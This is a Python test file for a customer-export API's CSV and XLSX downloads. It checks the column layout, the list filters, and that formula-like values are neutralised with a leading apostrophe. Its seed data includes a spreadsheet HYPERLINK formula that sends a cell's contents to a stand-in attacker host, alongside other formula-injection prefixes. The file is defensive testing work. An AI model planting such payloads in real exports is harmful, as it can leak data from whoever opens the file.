"""Exports as a marketer opens them: the filtered list, every column, no formula ever runs."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl

from accounts.schemas import MerchantOut
from customers.schemas import CustomerCreate, PurchaseCreate
from customers.services import customers as customer_service
from customers.services import purchases

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def auth(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


async def seed(merchant: MerchantOut) -> None:
    evil = await customer_service.create_customer(
        merchant.id,
        CustomerCreate(
            email="evil@example.com",
            first_name=EVIL,
            last_name="-2+3",
            city="@SUM(A1:A9)",
            phone="+49 30 123",
            customer_type="loyal",
            birth_date=date(1970, 1, 2),
            custom_fields={"note": "\tTabbed", "tier": "gold", "visits": 7},
            send_optin=False,
        ),
    )
    await purchases.add_purchase(merchant.id, evil.id, PurchaseCreate(amount=Decimal("19.90")))
    await customer_service.create_customer(
        merchant.id,
        CustomerCreate(
            email="plain@example.com",
            first_name="Paula",
            customer_type="non_member",
            custom_fields={"member_number": "M-1"},
            send_optin=False,
        ),
    )


async def test_csv_export_has_every_column_and_neutralises_formulas(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    response = await client.get(
        "/api/customers/export.csv?sort=email&order=asc", headers=auth(api_token)
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "customers.csv" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["email"] for r in rows] == ["evil@example.com", "plain@example.com"]
    header = list(rows[0])
    assert header[:11] == [
        "email",
        "first_name",
        "last_name",
        "gender",
        "birth_date",
        "locale",
        "country",
        "city",
        "postal_code",
        "phone",
        "customer_type",
    ]
    assert header[11:16] == [
        "email_status",
        "subscribed",
        "created_at",
        "purchase_count",
        "lifetime_value",
    ]
    assert header[16:] == ["custom.member_number", "custom.note", "custom.tier", "custom.visits"]
    evil = rows[0]
    assert evil["first_name"] == "'" + EVIL
    assert evil["last_name"] == "'-2+3"
    assert evil["city"] == "'@SUM(A1:A9)"
    assert evil["phone"] == "'+49 30 123"
    assert evil["custom.note"] == "'\tTabbed"
    assert (evil["custom.tier"], evil["custom.visits"], evil["custom.member_number"]) == (
        "gold",
        "7",
        "",
    )
    assert (evil["birth_date"], evil["purchase_count"], evil["lifetime_value"]) == (
        "1970-01-02",
        "1",
        "19.90",
    )
    assert (evil["email_status"], evil["subscribed"]) == ("unverified", "true")
    assert rows[1]["first_name"] == "Paula"


async def test_export_uses_the_list_filters_and_refuses_bad_ones(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    loyal = await client.get(
        "/api/customers/export.csv?customer_type=loyal&page=3&per_page=1", headers=auth(api_token)
    )
    emails = [r["email"] for r in csv.DictReader(io.StringIO(loyal.content.decode("utf-8-sig")))]
    assert emails == ["evil@example.com"]
    searched = await client.get("/api/customers/export.csv?q=paula", headers=auth(api_token))
    assert "plain@example.com" in searched.text and "evil@" not in searched.text
    bad = await client.get("/api/customers/export.csv?customer_type=gold", headers=auth(api_token))
    assert bad.status_code == 422 and "customer_type" in bad.json()["fields"]
    unknown = await client.get("/api/customers/export.xlsx?colour=red", headers=auth(api_token))
    assert unknown.status_code == 422


async def test_xlsx_export_keeps_formulas_as_text(
    client: Any, api_token: str, merchant: MerchantOut
) -> None:
    await seed(merchant)
    response = await client.get(
        "/api/customers/export.xlsx?sort=email&order=asc", headers=auth(api_token)
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    header = [c.value for c in rows[0]]
    evil = {name: cell for name, cell in zip(header, rows[1], strict=False)}
    assert evil["first_name"].value == "'" + EVIL
    assert evil["first_name"].data_type == "s"
    assert evil["city"].value == "'@SUM(A1:A9)"
    assert evil["birth_date"].value.date() == date(1970, 1, 2)
    assert evil["lifetime_value"].value == 19.9
    assert evil["custom.visits"].value == 7
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    assert [c.value for c in rows[2]][0] == "plain@example.com"


async def test_an_empty_export_still_has_its_header(client: Any, api_token: str) -> None:
    response = await client.get("/api/customers/export.csv", headers=auth(api_token))
    assert response.status_code == 200
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 1 and lines[0].startswith("email,first_name")
